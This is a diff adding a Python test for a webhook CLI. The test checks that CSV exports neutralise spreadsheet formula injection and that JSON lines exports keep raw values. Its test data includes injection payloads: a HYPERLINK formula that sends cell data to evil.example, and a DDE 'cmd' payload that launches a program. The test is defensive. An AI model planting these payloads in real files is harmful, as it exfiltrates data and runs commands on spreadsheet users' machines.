@@ -1,5 +1,8 @@
 """The CLI verbs at their edges: output that cannot be written, and settings that only look
 right (found by adversarial use, session 21)."""
+import csv
+import io
+import json
 import os
 import subprocess
 import sys
@@ -7,6 +10,7 @@ import unittest
 
 sys.path.insert(0, os.path.dirname(__file__))
 from cli import DATA, VOCOHOOK, run, write_temp  # noqa: E402
+from recv_harness import Receiver, payload  # noqa: E402
 
 TS = "2026-03-15T14:32:08.000Z"
 SECRET = "whsec_" + "ab" * 32
@@ -116,6 +120,43 @@ class VerifySecretsList(unittest.TestCase):
                 self.assertEqual((rc, out), (2, b""), err)
                 self.assertIn("white space", err)
                 self.assertNotIn(SECRET, err)
+
+
+class CsvFormulas(unittest.TestCase):
+    """`sessions export --format csv` is opened in spreadsheets. The agent name is the
+    sender's free text: a cell starting with = + - @ (or a tab or CR) is a formula there
+    (CSV injection, CWE-1236), so the export writes it after a single quote, which those
+    programs show as text. The JSON lines export keeps the exact value."""
+
+    NAMES = {
+        "s_eq": "=HYPERLINK(\"http://evil.example/\"&A1,\"open\")",
+        "s_plus": "+1+cmd|' /C calc'!A0",
+        "s_minus": "-2+3",
+        "s_at": "@SUM(1+1)",
+        "s_tab": "\t=1+1",
+        "s_cr": "\r=1+1",
+        "s_plain": "Sales, \"Assistant\" = 1",
+    }
+
+    def test_formula_characters_are_neutralised(self):
+        with Receiver() as r:
+            for sid, name in self.NAMES.items():
+                self.assertEqual(r.deliver(payload(sid, agent_name=name)).status, 200)
+            rc, out, err = r.cli("sessions", "export", "--format", "csv")
+            self.assertEqual(rc, 0, err)
+            rows = {x["session_id"]: x for x in csv.DictReader(io.StringIO(out, newline=""))}
+            self.assertEqual(set(rows), set(self.NAMES))
+            for sid, name in self.NAMES.items():
+                with self.subTest(name=name):
+                    want = name if sid == "s_plain" else "'" + name
+                    self.assertEqual(rows[sid]["agent_name"], want)
+                    # The validated columns are unchanged (E.164 numbers start with '+').
+                    self.assertEqual(rows[sid]["from_number"], "+14155551234")
+            rc, out, err = r.cli("sessions", "export", "--format", "jsonl")
+            self.assertEqual(rc, 0, err)
+            for line in out.splitlines():
+                x = json.loads(line)
+                self.assertEqual(x["payload"]["data"]["agent_name"], self.NAMES[x["session_id"]])
 
 
 if __name__ == "__main__":
